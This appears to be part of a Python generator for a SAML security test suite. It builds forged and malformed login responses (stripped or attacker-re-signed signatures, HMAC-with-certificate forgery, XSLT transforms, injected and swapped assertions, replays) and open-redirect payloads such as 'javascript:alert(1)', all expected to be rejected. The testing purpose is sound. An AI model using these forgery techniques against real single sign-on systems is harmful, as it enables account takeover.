    add("fail/1200-elements-in-soap", H_DOCS, "artifact",
        artifact_vector("big-art", base("big-art", extra_attrs=big)), "reject", "too_large")

    # --- signature and key faking ----------------------------------------------------------
    add("ok/response-signature-removed-assertion-signed", H_KEYS, "post",
        ok_assert_only, "accept",
        note="the Response signature is optional (SAML profiles 4.1.3.5); the signed Assertion carries the trust")
    d = dom(ok_post)
    a = find(d, "Assertion")
    a.removeChild(signature_of(a))
    add("fail/assertion-signature-removed", H_KEYS, "post", ser(d), "reject", "signature",
        note="the Response signature no longer verifies either: it covered the assertion's signature")
    add("fail/assertion-signature-removed-response-resigned", H_KEYS, "post",
        post_vector(base("unsigned-assertion"), sign_response=True, sign_assertion=False), "reject", "signature",
        note="xmlsec1 accepts the Response signature; the assertion itself must be signed")
    add("fail/both-signatures-removed", H_KEYS, "post",
        post_vector(base("unsigned-both"), sign_response=False, sign_assertion=False), "reject", "signature")
    d = dom(ok_art)
    ar = find(d, "ArtifactResponse")
    ar.removeChild(signature_of(ar))
    add("fail/artifactresponse-signature-removed", H_KEYS, "artifact", ser(d), "reject", "signature")
    add("fail/resigned-attacker-key-keyinfo", H_KEYS, "post",
        post_vector(base("attacker", uid=VICTIM), signer="attacker"), "reject", "signature")
    add("fail/resigned-attacker-key-artifact", H_KEYS, "artifact",
        sign(artifact_tmpl("attacker-art", post_vector(base("attacker-art", uid=VICTIM), sign_response=False,
                                                           signer="attacker"), sig_tmpl()), "attacker"),
        "reject", "signature")
    add("fail/self-signed-cert-with-idp-names", H_KEYS, "post",
        post_vector(base("forged", uid=VICTIM), signer="forged"), "reject", "signature")
    hm = sig_tmpl(HMAC_SHA256, keyinfo=False)
    a = sign(assertion_tmpl(base("hmac", uid=VICTIM), hm), hmac_key=crt("idp"))
    add("fail/hmac-sha256-keyed-with-idp-cert", H_KEYS, "post", response_tmpl(base("hmac"), a, None), "reject",
        "algorithm", note="HMAC keyed with the public certificate bytes (the PEM file) [pysaml2 CVE-2021-21239]")
    add("fail/rsa-sha1-not-allowed", H_KEYS, "post",
        post_vector(base("sha1"), asig=sig_tmpl(RSA_SHA1, SHA1), rsig=sig_tmpl(RSA_SHA1, SHA1)), "reject", "algorithm")
    add("fail/rsa-md5", H_KEYS, "post", post_vector(base("md5"), sign_response=False, asig=sig_tmpl(RSA_MD5, SHA256)),
        "reject", "algorithm")
    add("fail/digest-md5", H_KEYS, "post", post_vector(base("dmd5"), sign_response=False, asig=sig_tmpl(dig=MD5)),
        "reject", "algorithm")
    tr = {
        "xpath": [f'<ds:Transform Algorithm="{XPATH}"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>',
                  f'<ds:Transform Algorithm="{EXC}"/>'],
        "xpath-filter2": [f'<ds:Transform Algorithm="{XPATH2}"><dsig-xpath:XPath xmlns:dsig-xpath="{XPATH2}"'
                          f' Filter="subtract">//ds:Signature</dsig-xpath:XPath></ds:Transform>',
                          f'<ds:Transform Algorithm="{EXC}"/>'],
        "exc-c14n-with-comments": [f'<ds:Transform Algorithm="{ENV}"/>', f'<ds:Transform Algorithm="{EXC_COMMENTS}"/>'],
        "three-transforms": [f'<ds:Transform Algorithm="{ENV}"/>', f'<ds:Transform Algorithm="{EXC}"/>',
                             f'<ds:Transform Algorithm="{EXC}"/>'],
    }
    for name, ts in tr.items():
        add(f"fail/transform-{name}", H_KEYS, "post",
            post_vector(base("tr-" + name), sign_response=False, asig=sig_tmpl(transforms=ts)), "reject", "algorithm")
    add("fail/c14n-method-with-comments", H_KEYS, "post",
        post_vector(base("c14n-wc"), sign_response=False, asig=sig_tmpl(c14n=EXC_COMMENTS)), "reject", "algorithm")
    xslt = [f'<ds:Transform Algorithm="{ENV}"/>',
            f'<ds:Transform Algorithm="{XSLT}"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:template match="/"><xsl:copy-of select="."/></xsl:template></xsl:stylesheet></ds:Transform>']
    try:
        v = post_vector(base("tr-xslt"), sign_response=False, asig=sig_tmpl(transforms=xslt))
        note = "signed by xmlsec1 with the XSLT transform"
    except RuntimeError as e:
        # xmlsec1 may refuse XSLT; then the transform is put into a normal signature afterwards.
        v = post_vector(base("tr-xslt"), sign_response=False)
        v = v.replace(f'<ds:Transform Algorithm="{EXC}"/>', xslt[1], 1)
        note = "xmlsec1 refused to sign with XSLT (%s); transform inserted after signing" % str(e)[:80]
    add("fail/transform-xslt", H_KEYS, "post", v, "reject", "algorithm", note=note)
    # An empty Reference URI means the whole document: sign the Response that way.
    p = base("empty-uri")
    a = assertion_tmpl(p, None)
    doc = sign(response_tmpl(p, a, sig_tmpl(ref_uri="")))
    add("fail/empty-reference-uri", H_KEYS, "post", doc, "reject", "signature",
        note="xmlsec1 accepts URI=\"\" (the whole document); the SP wants #ID of the signed element")

    # Sign then encrypt: the Response was signed over the plaintext Assertion, then the assertion
    # was encrypted; the outer signature no longer covers what is delivered.
    p = base("sign-then-encrypt")
    plain = sign(response_tmpl(p, f'<saml:EncryptedAssertion>{signed_assertion(p)}</saml:EncryptedAssertion>',
                               sig_tmpl()))
    add("fail/sign-then-encrypt-stale-response-signature", H_KEYS, "post", encrypt(plain), "reject", "signature",
        profile="post-enc")
    # The signed Response's EncryptedAssertion swapped for one the attacker encrypted (unsigned
    # evil assertion, SP's public certificate).
    swapped = encrypt(response_tmpl(base("swap"), f'<saml:EncryptedAssertion>{assertion_tmpl(base("swap", uid=VICTIM), None)}'
                                                  f'</saml:EncryptedAssertion>', None))
    orig = dom(ok_enc)
    repl = dom(swapped)
    old = find(orig, "EncryptedAssertion")
    old.parentNode.replaceChild(orig.importNode(find(repl, "EncryptedAssertion"), True), old)
    add("fail/encrypted-assertion-swapped", H_KEYS, "post", ser(orig), "reject", "signature", profile="post-enc")
    add("fail/encrypted-unsigned-assertion", H_KEYS, "post",
        post_vector(base("enc-unsigned", uid=VICTIM), sign_response=False, sign_assertion=False, encrypted=True),
        "reject", "signature", profile="post-enc")

    def cipher_mut(name, which, value):
        d = dom(ok_enc)
        ed = find(d, "EncryptedAssertion")
        cvs = ed.getElementsByTagNameNS(NS_XENC, "CipherValue")
        # document order: EncryptedKey's CipherValue (inside KeyInfo) first, then the data's.
        cv = cvs[0] if which == "key" else cvs[-1]
        cv.firstChild.nodeValue = value
        # The Response signature would fail first; drop it so the garbage reaches decryption.
        r = d.documentElement
        r.removeChild(signature_of(r))
        add(f"fail/{name}", H_KEYS, "post", ser(d), "reject", "decrypt", profile="post-enc")
    b64 = lambda n: base64.b64encode(bytes((i * 37 + 11) % 256 for i in range(n))).decode()
    cipher_mut("ciphertext-bad-length", "data", b64(16 + 17))
    cipher_mut("ciphertext-shorter-than-iv", "data", b64(7))
    cipher_mut("ciphertext-garbage-blocks", "data", b64(16 * 20))
    cipher_mut("ciphertext-not-base64", "data", "!!!not base64!!!")
    cipher_mut("encryptedkey-garbage", "key", b64(256))
    cipher_mut("encryptedkey-bad-length", "key", b64(5))

    # --- recipient confusion (each alone; every vector validly signed by the IdP) ----------
    rc = [
        ("audience-wrong", dict(audience=EVIL), "audience"),
        ("recipient-wrong", dict(recipient=EVIL + "/saml/acs"), "recipient"),
        ("destination-wrong", dict(destination=EVIL + "/saml/acs"), "destination"),
        ("destination-empty-when-signed", dict(destination=None), "destination"),
        ("inresponseto-unknown", dict(irt=UNKNOWN_ID, scd_irt=UNKNOWN_ID), "in_response_to"),
        ("response-issuer-wrong", dict(resp_issuer=EVIL), "issuer"),
        ("assertion-issuer-wrong", dict(assert_issuer=EVIL), "issuer"),
        ("spnamequalifier-wrong", dict(spnq=EVIL), "audience"),
        ("notbefore-future", dict(cond_nb=FUTURE), "time"),
        ("notonorafter-passed", dict(cond_noa=PAST), "time"),
        ("subjectconfirmation-expired", dict(scd_noa=PAST), "time"),
        ("issueinstant-future", dict(resp_ii=FUTURE), "time"),
        ("issueinstant-too-old", dict(resp_ii=TOO_OLD), "time"),
        ("assertion-issueinstant-too-old", dict(assert_ii=TOO_OLD), "time"),
        ("method-holder-of-key", dict(method="urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"), "recipient"),
        ("no-authnstatement", dict(authn_statements=0), "assertion"),
        ("two-authnstatements", dict(authn_statements=2), "assertion"),
        ("missing-sessionindex", dict(session_index=None), "assertion"),
        ("status-responder-with-assertion", dict(status="urn:oasis:names:tc:SAML:2.0:status:Responder"), "status"),
        ("bad-national-id-checksum", dict(uid=BAD_CHECKSUM), "attributes"),
    ]
    for name, kw, reason in rc:
        add(f"fail/{name}", H_RECIPIENT if name != "bad-national-id-checksum" else H_WEB, "post",
            post_vector(base(name, **kw)), "reject", reason,
            note="xmlsec1 accepts both signatures: the message is authentic but not for this login")
    add("fail/inresponseto-other-browser-session", H_RECIPIENT, "post",
        post_vector(base("irt-other", irt=OTHER_ID, scd_irt=OTHER_ID)), "reject", "in_response_to",
        setup={"other_login": True})
    add("fail/inresponseto-already-used", H_RECIPIENT, "post", post_vector(base("irt-used")), "reject", "in_response_to",
        setup={"used_login": True},
        note="answers AUTHN_ID, which a finished login used; posted to a new login")
    add("fail/artifactresponse-inresponseto-wrong", H_RECIPIENT, "artifact",
        artifact_vector("ar-irt", irt=UNKNOWN_ID), "reject", "in_response_to")
    add("fail/synthetic-person-in-production", H_WEB, "post", post_vector(base("synthetic")), "reject", "attributes",
        profile="post-prod")

    # --- more than one assertion -----------------------------------------------------------
    signed_a = signed_assertion(base("multi"))
    evil_a = assertion_tmpl(base("multi", assert_id="_a-multi-evil", uid=VICTIM), None)
    add("fail/unsigned-assertion-appended", H_MULTI, "post",
        response_tmpl(base("multi"), signed_a + evil_a, None), "reject", "assertion")
    add("fail/unsigned-assertion-prepended", H_MULTI, "post",
        response_tmpl(base("multi"), evil_a + signed_a, None), "reject", "assertion")
    add("fail/assertion-inside-advice", H_MULTI, "post",
        post_vector(base("advice", advice=f'<saml:Advice>{evil_a}</saml:Advice>'), sign_response=False),
        "reject", "assertion")
    enc_only = dom(ok_enc)
    ea = find(enc_only, "EncryptedAssertion").toxml()
    add("fail/encrypted-assertion-next-to-plain", H_MULTI, "post",
        response_tmpl(base("ok-enc"), ea + evil_a, None), "reject", "assertion", profile="post-enc")
    add("fail/two-responses-in-artifactresponse", H_MULTI, "artifact",
        sign(artifact_tmpl("two-resp", post_vector(base("two-resp"), sign_response=False) +
                           post_vector(base("two-resp2"), sign_response=False), sig_tmpl())),
        "reject", "malformed")

    # --- replay ----------------------------------------------------------------------------
    add("fail/replay-same-response-twice", H_REPLAY, "post", ok_post, "reject", "replay", key_="expired",
        setup={"replay": "twice"})
    add("fail/replay-same-relaystate-again", H_REPLAY, "post", ok_post, "reject", "pending_login", key_="expired",
        setup={"replay": "same_relay"})
    add("fail/replay-same-artifact-twice", H_REPLAY, "artifact", ok_art, "reject", "replay", key_="expired",
        setup={"replay": "twice"})
    add("fail/replay-after-restart", H_REPLAY, "post", ok_post, "reject", "replay", key_="expired",
        setup={"replay": "restart"})
    add("fail/replay-second-instance", H_REPLAY, "post", ok_post, "reject", "replay", key_="expired",
        setup={"replay": "second_instance"})
    add("fail/replay-artifact-second-instance", H_REPLAY, "artifact", ok_art, "reject", "replay", key_="expired",
        setup={"replay": "second_instance"})
    add("fail/replay-after-expiry", H_REPLAY, "post", ok_post, "reject", "time",
        setup={"replay": "twice", "advance": "10m"}, note="after NotOnOrAfter + skew it fails for age")

    # --- web layer: open redirects ---------------------------------------------------------
    for i, rt in enumerate(["//evil.attacks.test", "https://evil.attacks.test", "javascript:alert(1)",
                            "\\\\evil.attacks.test", "/\\evil.attacks.test", "%2F%2Fevil.attacks.test",
                            "/%2F%2Fevil.attacks.test", "/%5Cevil.attacks.test", "https:evil.attacks.test",
                            "/\t/evil.attacks.test"]):
        add(f"fail/return-to-{i:02d}", H_WEB, "web", None, "reject", "return_to", key_="bad_request",
            setup={"return_to": rt})
    for i, rs in enumerate(["//evil.attacks.test/aaaaaaaaaaaaaaaa", "https://evil.attacks.test/aaaaaaaa",
                            "javascript:alert(1)//aaaaaaaaaaaa", "\\\\evil.attacks.test\\aaaaaaaaaaaa"]):
        add(f"fail/relaystate-url-{i:02d}", H_WEB, "post", ok_post, "reject", "pending_login", key_="expired",
            setup={"relay_state": rs, "pending_survives": True},
            note="RelayState is only a key to a pending login; a URL there is never followed")

    slo_cases()

    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump({"generator": "testdata/attacks/gen.py", "now": NOW, "authn_request_id": AUTHN_ID,
                   "artifact_resolve_id": RESOLVE_ID, "other_request_id": OTHER_ID, "idp_entity_id": IDP_ENTITY,
                   "sp_base_url": SP, "sp_entity_id": SP_ENTITY, "person": PERSON, "victim": VICTIM,
                   "headings": HEADINGS, "cases": MANIFEST}, f, indent=1)
        f.write("\n")
    print(f"{len(MANIFEST)} cases", file=sys.stderr)


if __name__ == "__main__":
    main()
